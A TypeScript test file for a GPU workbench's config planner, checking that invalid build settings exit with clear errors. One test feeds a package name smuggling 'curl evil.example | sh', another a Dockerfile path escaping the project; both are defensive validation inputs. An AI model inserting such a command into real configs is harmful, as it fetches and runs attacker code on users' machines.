/**
 * `npm run plan` with builds (issue 17): bad build input exits 2 with the key path and prints no
 * plan (a shell word in a package name, a Dockerfile path that leaves the project, one that does
 * not exist, checked on the files before anything is registered), and planning the kaggle stack
 * (a preview) writes no build context into the project.
 */
import { spawnSync } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";

const ROOT = fs.realpathSync(path.join(__dirname, "..", ".."));

function plan(...args: string[]) {
  const r = spawnSync(process.execPath, ["--require", "@swc-node/register", "scripts/plan.ts", ...args], { cwd: ROOT, encoding: "utf8", timeout: 90_000 });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

const HEAD = [
  "config:",
  "  gpu-workbench:workbench:",
  "    target: local",
  "    users:",
  '      - { name: daniel, admin: true, sshPublicKey: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIM5QR5F+DttOF50KU5EsNxHyI4xJYIjWL8jaJzzOtbYC daniel@laptop" }',
  "    apps:",
];

function planWithApps(...apps: string[]) {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "plan-build-"));
  const file = path.join(dir, "stack.yaml");
  fs.writeFileSync(file, [...HEAD, ...apps, ""].join("\n"));
  try {
    return { file, ...plan("--stack", "bad", "--config", file) };
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
}

test("a package name with shell characters exits 2 with its key path", () => {
  const r = planWithApps('      - { kind: kaggle-python, build: { packages: ["polars", "x; curl evil.example | sh"] } }');
  expect(r.code).toBe(2);
  expect(r.stdout).toBe("");
  expect(r.stderr).toBe(
    `Invalid stack config (${r.file}):\n` +
      'workbench.apps[0].build.packages[1]: "x; curl evil.example | sh" is not a pip requirement this workbench accepts; use a name with optional extras and version, e.g. "xgboost==2.1.1" or "transformers[torch]>=4.44" (no spaces, URLs, markers or shell characters)\n',
  );
});

test("a Dockerfile outside the project, and image with build, exit 2 with both key paths", () => {
  const r = planWithApps(
    "      - { kind: custom, name: lab, port: 8000, build: { from: jupyter, dockerfile: ../../etc/Dockerfile } }",
    '      - { kind: kaggle-python, image: "gcr.io/kaggle-gpu-images/python:v168", build: { packages: [polars] } }',
  );
  expect(r.code).toBe(2);
  expect(r.stdout).toBe("");
  expect(r.stderr).toBe(
    `Invalid stack config (${r.file}):\n` +
      'workbench.apps[0].build.dockerfile: "../../etc/Dockerfile" leaves the project directory; give a path inside it, relative to Pulumi.yaml\n' +
      "workbench.apps[1].build: conflicts with workbench.apps[1].image: an app either runs a published image or builds one; remove image or build\n",
  );
});

test("a Dockerfile that is not in the project exits 2 before anything is registered", () => {
  const r = planWithApps("      - { kind: custom, name: lab, port: 8000, build: { from: jupyter, dockerfile: docker/lab.Dockerfile } }");
  expect(r.code).toBe(2);
  expect(r.stdout).toBe("");
  expect(r.stderr).toBe(
    `Invalid stack config (${r.file}):\n` +
      `workbench.apps[0].build.dockerfile: "docker/lab.Dockerfile" does not exist in the project directory ${ROOT}; check the path (relative to Pulumi.yaml)\n`,
  );
});

test("planning a stack with builds (a preview) writes no build context", () => {
  const before = fs.existsSync(path.join(ROOT, ".gpu-workbench"));
  const r = plan("--stack", "kaggle");
  expect(r.code).toBe(0);
  expect(r.stdout).toMatch(/RemoteImage {2}kaggle-apps-build-kaggle-rstudio {2}\(name=gpu-workbench\/kaggle-rstudio:[0-9a-f]{16}\)/);
  expect(fs.existsSync(path.join(ROOT, ".gpu-workbench"))).toBe(before);
}, 90_000);
